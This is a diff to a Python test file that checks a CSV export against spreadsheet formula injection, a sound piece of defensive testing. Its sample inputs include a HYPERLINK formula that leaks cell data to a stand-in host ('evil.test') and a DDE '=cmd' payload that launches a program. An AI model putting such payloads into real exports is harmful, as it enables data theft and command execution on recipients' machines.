@@ -4,6 +4,7 @@ import csv
 import gzip
 import io
 import re
+from pathlib import Path
 
 import pytest
 from hypothesis import given
@@ -20,10 +21,11 @@ from tests import facts
 
 FORMULAS = (
     '=HYPERLINK("http://evil.test/?"&A1)', "+33 1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\uff1d1+1", "'=1", '"=1"',
-    "Un bac; =1+1", 'Un bac;"=cmd|\'/c calc\'!A1', "Un bac;-1",
+    "Un bac; =1+1", 'Un bac;"=cmd|\'/c calc\'!A1', "Un bac;-1", "\u202e=1", "\x0b=1", "\ufeff\x01 =1", "a\u2028@x", "\x00-1",
 )  # fmt: skip
-DANGER = re.compile('[" \u00a0]*[=+@\t\r\uff1d\uff0b\uff0d\uff20-]')
-UNDO = re.compile("(^|[;\t\r\n])'(?=[\"' \u00a0]*[=+@\t\r\uff1d\uff0b\uff0d\uff20-])")
+DANGER = re.compile('["\\s\x00-\x1f\x7f-\x9f\u200e\u202e\ufeff]*[=+@\t\r\uff1d\uff0b\uff0d\uff20-]')
+SAID = (Path(__file__).resolve().parents[3] / "DATA_FORMAT.md").read_text(encoding="utf-8")
+RULE = re.search(r"```\n(ends = .*\nunseen = .*\n)re\.sub\((rf\".*?\"), ", SAID)
 
 
 @pytest.fixture(scope="module")
@@ -37,6 +39,13 @@ def archive():
     )  # fmt: skip
     facts.write(log, facts.Fact(check=seen))
     return facts.folded(log)
+
+
+def undo(cell):
+    """Return what DATA_FORMAT.md makes of a cell: the text as it was."""
+    given = {"re": re}
+    exec(RULE[1], given)
+    return re.sub(eval(RULE[2], given), r"\1", cell)
 
 
 def cells(data):
@@ -62,7 +71,7 @@ def test_each_view_has_its_rows_under_the_same_columns(archive, tmp_path, view):
     for told, row in zip(found, rows, strict=True):
         assert told[MORE] == ""
         for path in paths:
-            value, cell = leaf(row, path), UNDO.sub(r"\1", told[".".join(path)])
+            value, cell = leaf(row, path), undo(told[".".join(path)])
             if isinstance(value, str | None):
                 assert cell == (value or "")
             elif isinstance(value, list) and all(isinstance(each, str) for each in value):
@@ -97,13 +106,13 @@ def test_no_reader_finds_a_formula(archive, separator):
 
 
 @pytest.mark.row("F-TAK-03")
-@given(st.text(st.sampled_from("=+-@;,\t\r\n\"' \u00a0a\uff1dé")))
+@given(st.text(st.sampled_from("=+-@;,\t\r\n\"' \u00a0a\uff1dé\0\x0b\x1e\x85\u200f\u202e\u2028\ufeff")))
 def test_what_was_put_before_is_taken_away_again(text):
     """By the rule of DATA_FORMAT.md any text comes back as it was, and none is dangerous as it stands."""
     told = safe(text)
 
-    assert UNDO.sub(r"\1", told) == text
-    assert not any(DANGER.match(part) for part in re.split("[;\t\r\n]", told))
+    assert undo(told) == text
+    assert not any(DANGER.match(part) for part in re.split("[;\t\r\n\x0b\x0c\x85\u2028\u2029]", told))
 
 
 def test_the_mark_for_excel(archive, tmp_path):
